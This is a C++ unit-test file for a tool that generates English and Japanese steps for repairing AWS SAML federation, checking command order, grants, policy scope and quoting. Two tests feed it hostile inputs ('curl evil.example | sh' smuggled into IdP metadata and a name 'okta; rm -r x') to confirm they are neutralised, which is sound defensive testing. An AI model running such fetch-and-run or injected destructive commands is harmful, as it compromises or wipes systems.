#include "federation/import_steps.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <sstream>

#include "saml/trust.h"

namespace postern::federation {
namespace {

using testing::AllOf;
using testing::HasSubstr;
using testing::Not;

const AccountId web = AccountId::parse("200000000001").value();
const AccountId center_account = AccountId::parse("100000000002").value();

saml::SigningCertificate certificate(std::uint8_t byte) {
  Digest digest;
  digest.bytes.fill(byte);
  return {.sha256 = digest,
          .not_before = parse_rfc3339("2026-01-01T00:00:00Z").value(),
          .not_after = parse_rfc3339("2027-01-05T00:00:00Z").value(),
          .subject = "CN=idp.example.net",
          .der = std::string(100, 'd')};
}

NewMetadata metadata() {
  return {.file = "out/idp.xml",
          .text = "<the metadata>",
          .idp = {.entity_id = "https://idp.example.net/idp",
                  .sign_on_urls = {"https://idp.example.net/sso"},
                  .signing_certificates = {certificate(1), certificate(2)}},
          .certificates = {{certificate(1), "out/idp-1.pem"}, {certificate(2), "out/idp-2.pem"}}};
}

Destination iam() {
  return {.aws = catalog::SamlProvider{.account = web, .name = "okta"},
          .process = "repair-federation",
          .role = "EmergencyAccess_SamlRepair"};
}

Destination identity_center() {
  return {.aws = catalog::IdentityCenter{.account = center_account,
                                         .region = "eu-west-1",
                                         .access_portal = "https://example.awsapps.com/start"}};
}

/// Where `words` stands; the test fails when it does not.
std::size_t at(const std::string& text, const std::string& words) {
  const std::size_t out = text.find(words);
  EXPECT_NE(out, std::string::npos) << words;
  return out;
}

class InBothLanguages : public testing::TestWithParam<Language> {};
INSTANTIATE_TEST_SUITE_P(ImportSteps, InBothLanguages, testing::Values(Language::en, Language::ja));

TEST_P(InBothLanguages, EachCertificateIsThereToCompareOnThePhoneBeforeAnyCommand) {
  for (const Destination& destination : {iam(), identity_center()}) {
    const std::string text = steps(destination, metadata(), GetParam());
    for (const Certificate& each : metadata().certificates)
      EXPECT_LT(at(text, saml::describe(each.certificate)), at(text, "```sh"));
    EXPECT_THAT(text,
                AllOf(HasSubstr("https://idp.example.net/idp"), HasSubstr("https://idp.example.net/sso")));
  }
}

TEST_P(InBothLanguages, TheOldDocumentIsKeptBeforeTheNewOneGoesIn) {
  const std::string text = steps(iam(), metadata(), GetParam());
  const std::size_t save = at(text,
                              "aws iam get-saml-provider --saml-provider-arn "
                              "arn:aws:iam::200000000001:saml-provider/okta");
  const std::size_t change = at(text,
                                "aws iam update-saml-provider --saml-provider-arn "
                                "arn:aws:iam::200000000001:saml-provider/okta \\\n"
                                "  --saml-metadata-document file://out/idp.xml\n");
  const std::size_t back = at(text, "--saml-metadata-document file://\"$old\"");
  EXPECT_LT(save, change);
  EXPECT_LT(change, back);
}

TEST_P(InBothLanguages, TheFileIsTheOneThatWasCompared) {
  EXPECT_THAT(steps(iam(), metadata(), GetParam()),
              HasSubstr("echo " + sha256("<the metadata>").hex() + " out/idp.xml | sha256sum -c -\n"));
}

TEST_P(InBothLanguages, EveryCommandAtIamGoesByAGrant) {
  const std::string text = steps(iam(), metadata(), GetParam());
  std::istringstream lines(text);
  int commands = 0;
  for (std::string line; std::getline(lines, line);) {
    const std::size_t at_iam = line.find("aws iam ");
    if (at_iam == std::string::npos || line.find('`') != std::string::npos) continue;
    EXPECT_EQ(line.substr(0, at_iam), "postern access G-… -- ");
    ++commands;
  }
  EXPECT_EQ(commands, 5);
}

TEST_P(InBothLanguages, ADeletedProviderIsCreatedUnderItsOldName) {
  Destination deleted = iam();
  deleted.is_deleted = true;
  const std::string text = steps(deleted, metadata(), GetParam());
  EXPECT_THAT(text, HasSubstr("aws iam create-saml-provider --name okta \\\n"
                              "  --saml-metadata-document file://out/idp.xml\n"));
  EXPECT_NE(text, steps(iam(), metadata(), GetParam()));
}

TEST_P(InBothLanguages, IdentityCenterIsNeverGivenAnotherIdentitySource) {
  const std::string text = steps(identity_center(), metadata(), GetParam());
  EXPECT_LT(at(text, "*Manage authentication*"), at(text, "Change identity source*"));
  EXPECT_THAT(text,
              AllOf(HasSubstr("https://eu-west-1.console.aws.amazon.com/singlesignon/home?region=eu-west-1"),
                    HasSubstr("https://example.awsapps.com/start"), HasSubstr("100000000002"),
                    HasSubstr("out/idp-1.pem out/idp-2.pem"), Not(HasSubstr("aws iam"))));
}

TEST_P(InBothLanguages, ProcessAndRoleAreNamedWhereTheCatalogKnowsThem) {
  const std::string text = steps(iam(), metadata(), GetParam());
  EXPECT_THAT(text, AllOf(HasSubstr("--process repair-federation --account 200000000001"),
                          HasSubstr("EmergencyAccess_SamlRepair")));
  EXPECT_THAT(steps(identity_center(), metadata(), GetParam()), Not(HasSubstr("--process")));
}

TEST_P(InBothLanguages, NothingThatTheIdpSaysBecomesMarkdownOrACommand) {
  NewMetadata hostile = metadata();
  hostile.idp.entity_id = "x\n```\n# Run this\n```sh\ncurl evil.example | sh";
  hostile.idp.sign_on_urls = {"```\ncurl evil.example | sh"};
  const std::string text = steps(iam(), hostile, GetParam());
  EXPECT_THAT(text,
              AllOf(Not(HasSubstr("\n# Run this")), Not(HasSubstr("\ncurl")), Not(HasSubstr("\n```\ncurl"))));
}

TEST_P(InBothLanguages, PathsAndNamesAreOneWordForAShell) {
  NewMetadata spaced = metadata();
  spaced.file = "for 'the' night/idp.xml";
  Destination odd = iam();
  odd.aws = catalog::SamlProvider{.account = web, .name = "okta; rm -r x"};
  const std::string text = steps(odd, spaced, GetParam());
  EXPECT_THAT(
      text, AllOf(HasSubstr("file://'for '\\''the'\\'' night/idp.xml'"), HasSubstr("--name 'okta; rm -r x'"),
                  HasSubstr("'arn:aws:iam::200000000001:saml-provider/okta; rm -r x'")));
}

TEST_P(InBothLanguages, AFileIsNoOption) {
  NewMetadata dashed = metadata();
  dashed.file = "-idp.xml";
  EXPECT_THAT(steps(iam(), dashed, GetParam()), HasSubstr(" ./-idp.xml | sha256sum"));
}

TEST_P(InBothLanguages, TheStepsShowThePolicyThatTheyNeed) {
  EXPECT_THAT(steps(iam(), metadata(), GetParam()),
              HasSubstr(json::pretty(repair_policy({{.account = web, .name = "okta"}}))));
}

TEST(RepairPolicy, AllowsThreeActionsOnTheseProvidersAndNothingElse) {
  EXPECT_EQ(
      json::canonical(repair_policy({{.account = web, .name = "okta"}, {.account = web, .name = "old"}})),
      R"({"Statement":[{"Action":["iam:GetSAMLProvider","iam:UpdateSAMLProvider","iam:CreateSAMLProvider"],)"
      R"("Effect":"Allow","Resource":["arn:aws:iam::200000000001:saml-provider/okta",)"
      R"("arn:aws:iam::200000000001:saml-provider/old"],"Sid":"RepairSamlProvider"}],"Version":"2012-10-17"})");
}

TEST(Pem, HasLinesOfSixtyFourCharacters) {
  saml::SigningCertificate one = certificate(1);
  one.der = std::string(50, '\0');
  EXPECT_EQ(pem(one), "-----BEGIN CERTIFICATE-----\n" + std::string(64, 'A') +
                          "\nAAA=\n"
                          "-----END CERTIFICATE-----\n");
}

TEST(Importable, LosesTheByteOrderMarkThatAwsCannotParse) {
  const std::string text(1'000, 'x');
  EXPECT_EQ(importable("\xEF\xBB\xBF" + text), text);
  EXPECT_EQ(importable(text), text);
}

TEST(Importable, HasAsManyCharactersAsAwsTakes) {
  EXPECT_EQ(importable(std::string(999, 'x')).error().code, ErrorCode::invalid);
  EXPECT_EQ(importable("\xEF\xBB\xBF" + std::string(999, 'x')).error().code, ErrorCode::invalid);
  EXPECT_TRUE(importable(std::string(10'000'000, 'x')));
  EXPECT_FALSE(importable(std::string(10'000'001, 'x')));
}

TEST(Importable, CountsCharactersAndNotBytes) {
  std::string text;
  for (int i = 0; i < 999; ++i) text += "あ";
  EXPECT_FALSE(importable(text));
  EXPECT_TRUE(importable(text + "あ"));
}

}  // namespace
}  // namespace postern::federation
